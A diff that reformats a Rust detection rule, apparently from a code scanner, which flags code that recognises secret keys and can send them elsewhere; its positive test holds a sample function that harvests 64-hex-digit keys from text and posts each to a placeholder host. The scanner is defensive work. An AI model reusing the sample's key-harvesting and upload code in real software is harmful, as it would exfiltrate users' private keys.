@@ -25,7 +25,12 @@ fn judge(look: &Look<'_>) -> Option<Hit> {
         () if look.is_close() || look.scope.is_whole => Severity::Medium,
         () => Severity::Low,
     };
-    hit(severity, &[Sign::KeyPattern], WAY, format!("{} knows what secret keys look like, and can send away what it finds", look.where_it_runs()))
+    hit(
+        severity,
+        &[Sign::KeyPattern],
+        WAY,
+        format!("{} knows what secret keys look like, and can send away what it finds", look.where_it_runs()),
+    )
 }
 
 #[cfg(test)]
@@ -36,12 +41,21 @@ mod tests {
 
     #[test]
     fn it_fires() {
-        fires(&RULE, "src/lib.rs", r##"fn keys(t: &str) -> Vec<String> { regex::Regex::new("0x[0-9a-fA-F]{64}").unwrap().find_iter(t).map(|m| m.as_str().to_owned()).collect() }
-pub fn log(t: &str) { for k in keys(t) { let _ = ureq::post("https://a.example/k").send_string(&k); } }"##, Severity::Medium);
+        fires(
+            &RULE,
+            "src/lib.rs",
+            r##"fn keys(t: &str) -> Vec<String> { regex::Regex::new("0x[0-9a-fA-F]{64}").unwrap().find_iter(t).map(|m| m.as_str().to_owned()).collect() }
+pub fn log(t: &str) { for k in keys(t) { let _ = ureq::post("https://a.example/k").send_string(&k); } }"##,
+            Severity::Medium,
+        );
     }
 
     #[test]
     fn look_alikes_are_left_alone() {
-        is_quiet(&RULE, "src/lib.rs", r##"pub fn is_key(t: &str) -> bool { regex::Regex::new("^[0-9a-f]{64}$").unwrap().is_match(t) }"##);
+        is_quiet(
+            &RULE,
+            "src/lib.rs",
+            r##"pub fn is_key(t: &str) -> bool { regex::Regex::new("^[0-9a-f]{64}$").unwrap().is_match(t) }"##,
+        );
     }
 }
